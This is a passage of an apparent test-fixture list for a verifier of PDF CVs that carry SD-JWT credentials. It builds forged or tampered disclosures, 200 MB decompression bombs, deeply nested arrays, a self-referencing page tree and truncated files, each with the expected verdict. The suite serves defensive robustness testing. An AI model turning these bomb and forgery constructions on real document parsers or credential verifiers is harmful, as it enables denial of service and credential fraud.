    id: 'disclosure-no-digest',
    defect: 'all digests taken out of what was signed',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: (good) =>
      changeJson(good, (json) =>
        changedPayload(json, (claims) => {
          delete claims.credentialSubject['_sd'];
        }),
      ),
  },
  {
    id: 'disclosure-many',
    defect: 'two thousand disclosures that nothing stands for',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures((all) => [
      ...all,
      ...Array.from({ length: 2000 }, (_, index) => disclosureOf(`claim ${index}`, index)),
    ]),
  },
  {
    id: 'disclosure-deep',
    defect: 'a disclosure that is nested very deep',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: inDisclosures((all) => [...all, Buffer.from('['.repeat(100_000)).toString('base64url')]),
  },
  {
    id: 'drawn-but-not-disclosed',
    defect: 'a claim on the page that the file inside does not disclose',
    of: 'partlyShown',
    credentials: 'stand',
    page: 'page.differs',
    make: drawnButNotDisclosed,
  },
  {
    id: 'digest-put-in',
    defect: 'the digest of a forged disclosure put into what was signed: the page fits, the signature does not',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.identical',
    make: async (good) => redrawn(good, forgedDisclosure),
  },
  {
    id: 'answer-for-somebody-else',
    defect: 'an answer that a holder signed for another verifier',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: (good) => changeJson(good, (json) => json.replace(/(sd-jwt,[^"]+~)"/, '$1e30.e30.AAAA"')),
  },
  {
    id: 'format-renamed',
    defect: 'an SD-JWT called a JWT',
    of: 'partlyShown',
    credentials: 'rejected',
    page: 'page.no-credential',
    make: (good) => changeJson(good, (json) => json.replace('application/vc+sd-jwt', 'application/vc+jwt')),
  },

  // What exhausts
  {
    id: 'encrypted',
    defect: 'encrypted with an empty password',
    page: 'page.no-credential',
    make: (good) =>
      good.replace('trailer\n<<', 'trailer\n<<\n/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'),
  },
  {
    id: 'attachment-bomb',
    defect: 'an embedded file that unpacks to 200 MB',
    page: 'page.no-credential',
    make: (good) =>
      changeObject(good, '/Type /EmbeddedFile', () =>
        stream('/Type /EmbeddedFile /Filter /FlateDecode', packed(200_000_000)),
      ),
  },
  {
    id: 'object-stream-bomb',
    defect: 'an object stream that unpacks to 200 MB',
    page: 'page.differs',
    make: (good) =>
      addObject(good, stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(200_000_000))).file,
  },
  {
    id: 'xref-bomb',
    defect: 'a packed table that speaks of two thousand million objects',
    page: 'page.differs',
    make: (good) => {
      const { file, number } = addObject(
        good,
        stream('/Type /XRef /Size 2147483647 /W [ 1 4 2 ] /Filter /FlateDecode', packed(200_000_000)),
      );
      return file.replace(/startxref\n\d+/, `startxref\n${file.indexOf(`\n${number} 0 obj\n`) + 1}`);
    },
  },
  {
    id: 'content-bomb',
    defect: 'a page that unpacks to 200 MB',
    page: 'page.differs',
    make: (good) => {
      const { file, number } = addObject(good, stream('/Filter /FlateDecode', packed(200_000_000)));
      return changeObject(file, PAGE, (page) => page.replace(/\/Contents \d+/, `/Contents ${number}`));
    },
  },
  {
    id: 'many-pages',
    defect: 'forged credentials that need nearly as many pages as are drawn',
    page: 'page.differs',
    make: (good) => changeJson(good, lineBreaks(1, 490)),
  },
  {
    id: 'too-many-pages',
    defect: 'forged credentials that need far more pages than are drawn',
    page: 'page.differs',
    make: (good) => changeJson(good, lineBreaks(8, 490)),
  },
  {
    id: 'recursive-pages',
    defect: 'a page tree that holds itself',
    page: 'page.differs',
    make: (good) => changeObject(good, '/Type /Pages', (pages) => pages.replace('/Kids [', '/Kids [ 2 0 R')),
  },
  {
    id: 'deep-nesting',
    defect: 'an array nested a hundred thousand times',
    page: 'page.differs',
    make: (good) => addObject(good, '['.repeat(100_000)).file,
  },
  {
    id: 'many-objects',
    defect: 'a table with more objects than a KlusCV can have',
    page: 'page.differs',
    make: (good) => good.replace(/xref\n0 \d+\n/, 'xref\n0 900000\n'),
  },

  // What other software leaves
  {
    id: 're-saved',
    defect: 'none: saved again by the library that spells its objects',
    page: 'page.identical',
    make: saved(() => undefined, { useObjectStreams: false }),
  },
  {
    id: 're-saved-packed',
    defect: 'saved again with packed objects',
    page: 'page.resaved',
    make: saved(() => undefined, { useObjectStreams: true }),
  },
  {
    id: 'text-mode',
    defect: 'line ends changed on the way',
    page: 'page.no-credential',
    make: (good) => good.replaceAll('\n', '\r\n').slice(0, 2000),
  },
  {
    id: 'truncated-front',
    defect: 'cut off after the first kilobyte',
    page: 'page.no-credential',
    make: (good) => good.slice(0, 1000),
  },
  {
    id: 'truncated-json',
    defect: 'cut off inside the credentials',
    page: 'page.no-credential',
    make: (good) => good.slice(0, good.indexOf('"verifiableCredential"')),
  },
  { id: 'truncated-end', defect: 'without its last line', page: 'page.resaved', make: (good) => good.slice(0, -6) },
  {
    id: 'printed',
    defect: 'printed to a new PDF, which keeps only the picture',
    page: 'page.no-credential',
    make: printed,
  },
  { id: 'empty', defect: 'nothing at all', page: 'page.no-credential', make: () => '' },
  { id: 'not-a-pdf', defect: 'a picture', page: 'page.no-credential', make: () => '\u0089PNG\r\n' },
];
